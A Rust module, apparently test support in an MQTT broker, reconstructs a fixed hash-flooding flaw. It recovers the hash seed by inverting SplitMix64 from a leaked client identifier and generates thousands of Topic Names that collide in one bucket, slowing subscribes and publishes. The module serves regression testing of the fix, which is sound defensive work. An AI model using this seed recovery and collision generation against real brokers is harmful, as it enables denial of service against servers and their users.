//! An attacker who knows how hashes were keyed in earlier versions, and makes Topic Names that collide there.
//!
//! An assigned Client Identifier was the output of SplitMix64, whose state began as the seed, and hashes used the same seed. Each
//! step of SplitMix64 can be undone. So one identifier told the seed, all later identifiers, and which names collide: 100,000 such
//! Topic Names cost a shard 90 s to subscribe to, and each PUBLISH among them 1.2 ms.

use foldhash::SharedSeed;
use foldhash::fast::FoldHasher;
use std::hash::Hasher;

/// The constant that SplitMix64 adds to its state for each number.
const STEP: u64 = 0x9e37_79b9_7f4a_7c15;

/// The output of SplitMix64 for this state.
pub(crate) fn number_behind(state: u64) -> u64 {
    let mut mixed = state.wrapping_add(STEP);
    mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    mixed ^ (mixed >> 31)
}

/// The state of SplitMix64 before it put out `number`. Before the first number the state is the seed.
pub(crate) fn state_before(number: u64) -> u64 {
    let mut mixed = undo_shift(number, 31).wrapping_mul(inverse(0x94d0_49bb_1331_11eb));
    mixed = undo_shift(mixed, 27).wrapping_mul(inverse(0xbf58_476d_1ce4_e5b9));
    undo_shift(mixed, 30).wrapping_sub(STEP)
}

/// The value `mixed` for which `mixed ^ (mixed >> shift)` is `result`.
fn undo_shift(result: u64, shift: u32) -> u64 {
    result ^ (result >> shift) ^ result.checked_shr(2 * shift).unwrap_or(0)
}

/// The inverse of an odd number modulo 2^64. Each round doubles the number of correct bits.
fn inverse(number: u64) -> u64 {
    (0..6).fold(number, |inverse, _| inverse.wrapping_mul(2_u64.wrapping_sub(number.wrapping_mul(inverse))))
}

/// The number in an assigned identifier, whose digits come in reverse order.
pub(crate) fn number_in(assigned: &str) -> u64 {
    let digits = assigned.strip_prefix("goldcrest-").expect("an assigned identifier");
    digits.chars().rev().fold(0, |number, digit| number << 4 | u64::from(digit.to_digit(16).expect("a digit")))
}

/// The hash of a level of the topic tree, as it was: from the number of its parent node and its text.
pub(crate) fn hash_of_level(seed: u64, parent: u32, level: &str) -> u32 {
    let keyed = seed.wrapping_mul(STEP) ^ 0x243f_6a88_85a3_08d3;
    let shared = SharedSeed::from_u64(seed);
    let mut text = FoldHasher::with_seed(keyed, &shared);
    text.write(level.as_bytes());
    let mut place = FoldHasher::with_seed(keyed, &shared);
    place.write_u64(u64::from(parent) << 32 | text.finish() & 0xffff_ffff);
    place.finish() as u32
}

/// `count` Topic Names of one level with the same last bits of the hash: in a table with room for `count` names they were all in
/// one bucket.
pub(crate) fn colliding_names(seed: u64, count: usize) -> Vec<String> {
    names_in_one_of(count.next_power_of_two() as u32 * 2, seed, count)
}

/// `count` Topic Names of one level whose hashes all fall into one of `parts` equal parts of a table; `parts` is a power of two.
/// Fewer parts are found sooner.
pub(crate) fn names_in_one_of(parts: u32, seed: u64, count: usize) -> Vec<String> {
    let mask = parts - 1;
    let bucket = |name: &str| hash_of_level(seed, 0, name) & mask;
    let names = (0..).map(|number| format!("x{number}"));
    names.filter(|name| bucket(name) == bucket("x0")).take(count).collect()
}
